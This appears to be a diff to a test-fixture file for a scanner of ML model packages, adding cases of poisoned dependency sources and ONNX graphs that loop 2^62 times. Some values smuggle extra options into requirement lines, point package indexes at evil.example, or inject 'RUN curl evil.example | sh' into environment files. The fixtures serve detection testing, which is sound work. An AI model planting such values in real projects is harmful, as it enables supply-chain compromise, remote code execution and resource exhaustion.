@@ -530,6 +530,14 @@ for _name, _text, _line in (
     ("of_a_folder", "-e .", "-e ."),
     ("of_another_list", "-r /tmp/evil.txt", "-r /tmp/evil.txt"),
     ("of_settings_for_a_build", "--config-settings", "evil --config-settings x=y"),
+    ("of_settings_behind_a_version", "--config-settings", "evil==1 --config-settings=x=y"),
+    (
+        "of_settings_behind_a_marker",
+        "--global-option",
+        "evil; python_version > '3' --global-option=x",
+    ),
+    ("of_a_folder_behind_a_version", "-e evil_dir", "evil==1 -e evil_dir"),
+    ("of_a_folder_among_extras", "-e evil", "evil[a, -e evil]"),
     ("of_a_line_that_goes_on", "--index-url http", "--index-url \\\n  http://evil.example/simple"),
     ("of_a_comment_that_goes_on", "a comment that goes on", "# \\\n-i http://evil.example/"),
     ("in_an_encoding_of_their_own", "an encoding", "# coding: utf-7\nx==1+AAo-evil"),
@@ -550,6 +558,44 @@ package_source(
 package_source(
     "of_a_variable", "variables", {"conda.yaml": b"variables: {PIP_INDEX_URL: 'http://evil'}"}
 )
+for _name, _text, _file, _content in (
+    ("of_a_build", "evil @ http", "pyproject.toml", '[build-system]\nrequires = ["evil @ http://e/x"]'),
+    ("of_a_build_beside", "backend-path", "pyproject.toml", '[build-system]\nbackend-path = ["."]'),
+    ("of_a_project", "evil @ file", "pyproject.toml", '[project]\ndependencies = ["evil @ file:///e"]'),
+    ("of_an_option", "evil @ git+http:", "pyproject.toml",
+     '[project.optional-dependencies]\na = ["evil @ git+http://e/x"]'),
+    ("of_a_group", "./evil", "pyproject.toml", '[dependency-groups]\ndev = ["./evil"]'),
+    ("of_the_index_of_a_project", "http://evil", "pyproject.toml",
+     '[[tool.uv.index]]\nurl = "http://evil.example/simple"\ndefault = true'),
+    ("of_a_source_of_a_project", "path: ../evil", "pyproject.toml",
+     '[tool.uv.sources]\nevil = { path = "../evil" }'),
+    ("of_a_workspace", "workspace: True", "pyproject.toml",
+     "[tool.uv.sources]\nevil = { workspace = true }"),
+    ("of_links_of_a_project", "--find-links links", "pyproject.toml",
+     '[tool.uv.pip]\nfind-links = ["links"]'),
+    ("of_hosts_of_a_project", "allow-insecure-host", "pyproject.toml",
+     '[tool.uv]\nallow-insecure-host = ["evil.example"]'),
+    ("of_the_settings_of_uv", "--index-url http:", "uv.toml", 'index-url = "http://evil.example"'),
+    ("of_the_settings_of_pip", "--index-url http:", "pip.conf",
+     "[global]\nindex-url = http://evil.example"),
+    ("of_the_settings_of_setuptools", "evil @ http:", "setup.cfg",
+     "[options]\nsetup_requires =\n  evil @ http://evil.example/x"),
+    ("of_a_python_that_is_none", ".python-version", ".python-version", "/tmp/evil/python"),
+    ("of_a_line_for_docker", "RUN curl", "python_env.yaml",
+     'python: "3.11-slim\\nRUN curl evil.example | sh"'),
+    ("of_a_line_for_docker_by_conda", "RUN curl", "conda.yaml",
+     'dependencies: ["python=3.11\\nRUN curl evil.example | sh"]'),
+    ("of_a_directory_in_a_lock", "directory: evil", "uv.lock",
+     '[[package]]\nname = "x"\nsource = { directory = "evil" }'),
+    ("of_a_project_beside_in_a_lock", "editable: evil", "uv.lock",
+     '[[package]]\nname = "x"\nsource = { editable = "evil" }'),
+    ("of_a_wheel_in_a_lock", "path: evil", "uv.lock",
+     '[[package]]\nname = "x"\nwheels = [{ path = "evil-1-py3-none-any.whl" }]'),
+    ("of_a_folder_as_registry", "registry: links", "uv.lock",
+     '[[package]]\nname = "x"\nsource = { registry = "links" }'),
+    ("of_a_name_in_capitals", "--index-url http:", "Requirements.TXT", "--index-url http://evil/"),
+):  # fmt: skip
+    package_source(_name, _text, {_file: f"{_content}\n".encode()})
 package_source(
     "of_a_lock", "http://evil.example",
     {"uv.lock": b'[[package]]\nname = "x"\nsource = { registry = "http://evil.example/simple" }'},
@@ -679,15 +725,16 @@ def onnx_with_external_data(canary):
     return {"model.onnx": helper.make_model(graph).SerializeToString()}
 
 
-def onnx_bytes(nodes, *tensors) -> bytes:
+def onnx_bytes(nodes, *tensors, functions=()) -> bytes:
     """Return a graph of rows of two numbers, under X, to rows of any, under y."""
     from onnx import TensorProto, helper
 
     x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 2])
     y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 2])
     graph = helper.make_graph(nodes, "g", [x], [y], tensors)
-    opsets = [helper.make_opsetid("", 17)]
-    return helper.make_model(graph, opset_imports=opsets, ir_version=8).SerializeToString()
+    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("own", 1)]
+    made = helper.make_model(graph, opset_imports=opsets, ir_version=8, functions=functions)
+    return made.SerializeToString()
 
 
 def arithmetic(operator: str, number: float) -> bytes:
@@ -697,22 +744,105 @@ def arithmetic(operator: str, number: float) -> bytes:
     return onnx_bytes([node], helper.make_tensor("c", TensorProto.FLOAT, [1], [number]))
 
 
-def endless_onnx() -> bytes:
-    """Return a graph that goes round 2^62 times."""
+def loop_onnx(*nodes, goes_on="c", rows="v", functions=()) -> bytes:
+    """Return a graph that goes round 2^62 times.
+
+    Parameters
+    ----------
+    nodes : NodeProto
+        The body's, which has ``i``, ``c`` and ``v``; outside of it ``t`` is true.
+    goes_on, rows : str
+        What of it are its outputs.
+    """
+    loop, *tensors = endless(*nodes, goes_on=goes_on, rows=rows)
+    return onnx_bytes(loop, *tensors, functions=functions)
+
+
+def endless(*nodes, goes_on="c", rows="v"):
+    """Return the nodes of such a graph, and its tensors."""
     from onnx import TensorProto, helper
 
     def value(name, kind, shape):
         return helper.make_tensor_value_info(name, kind, shape)
 
-    number, truth, rows = TensorProto.INT64, TensorProto.BOOL, TensorProto.FLOAT
+    number, truth, real = TensorProto.INT64, TensorProto.BOOL, TensorProto.FLOAT
     body = helper.make_graph(
-        [helper.make_node("Identity", ["c"], ["d"]), helper.make_node("Identity", ["v"], ["w"])],
-        "body", [value("i", number, []), value("c", truth, []), value("v", rows, [None, 2])],
-        [value("d", truth, []), value("w", rows, [None, 2])],
+        nodes, "body", [value("i", number, []), value("c", truth, []), value("v", real, [None, 2])],
+        [value(goes_on, truth, []), value(rows, real, [None, 2])],
     )  # fmt: skip
-    loop = helper.make_node("Loop", ["n", "t", "X"], ["y"], body=body)
+    loop = helper.make_node("Loop", ["n", "t", "X"], ["y"], name="round", body=body)
     rounds = helper.make_tensor("n", number, [], [2**62])
-    return onnx_bytes([loop], rounds, helper.make_tensor("t", truth, [], [True]))
+    return [loop], rounds, helper.make_tensor("t", truth, [], [True])
+
+
+def node(operator, inputs, outputs, **attributes):
+    from onnx import helper
+
+    return helper.make_node(operator, inputs, outputs, **attributes)
+
+
+def endless_onnx() -> bytes:
+    """Return a graph that goes round 2^62 times, and hands on what it is given."""
+    nodes = node("Identity", ["c"], ["d"]), node("Identity", ["v"], ["w"])
+    return loop_onnx(*nodes, goes_on="d", rows="w")
+
+
+def constant_truth():
+    from onnx import TensorProto, helper
+
+    truth = helper.make_tensor("", TensorProto.BOOL, [], [True])
+    return node("Constant", [], ["d"], value=truth)
+
+
+@kind("endless_loop", "round")
+def onnx_loop_without_a_node(canary):
+    return {"model.onnx": loop_onnx()}
+
+
+@kind("endless_loop", "round")
+def onnx_loop_of_a_constant(canary):
+    return {"model.onnx": loop_onnx(constant_truth(), goes_on="d")}
+
+
+@kind("endless_loop", "a function")
+def onnx_loop_that_calls_an_empty_function(canary):
+    from onnx import helper
+
+    empty = helper.make_function(
+        "own", "Nothing", ["a"], ["b"], [node("Constant", [], ["b"], value_float=1.0)],
+        [helper.make_opsetid("", 17)],
+    )  # fmt: skip
+    return {
+        "model.onnx": loop_onnx(node("Nothing", ["v"], ["unused"], domain="own"), functions=[empty])
+    }
+
+
+@kind("endless_loop", "round")
+def onnx_loop_whose_body_a_function_is_given(canary):
+    from onnx import AttributeProto, helper
+
+    (loop,), *tensors = endless()
+    call = node("Round", ["n", "t", "X"], ["y"], domain="own")
+    call.attribute.add().CopyFrom(loop.attribute[0])
+    del loop.attribute[:]
+    loop.attribute.add(name="body", ref_attr_name="body", type=AttributeProto.GRAPH)
+    opsets = [helper.make_opsetid("", 17)]
+    given = helper.make_function("own", "Round", loop.input, ["y"], [loop], opsets, ["body"])
+    return {"model.onnx": onnx_bytes([call], *tensors, functions=[given])}
+
+
+@kind("endless_loop", "round")
+def onnx_loop_without_a_node_in_a_branch(canary):
+    from onnx import TensorProto, helper
+
+    loop, *tensors = endless()
+    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 2])
+    z = helper.make_tensor_value_info("z", TensorProto.FLOAT, [None, 2])
+    branches = {
+        "then_branch": helper.make_graph(loop, "then", [], [y]),
+        "else_branch": helper.make_graph([node("Identity", ["X"], ["z"])], "else", [], [z]),
+    }
+    return {"model.onnx": onnx_bytes([node("If", ["t"], ["y"], **branches)], *tensors)}
 
 
 def ort_bytes(onnx: bytes) -> bytes:
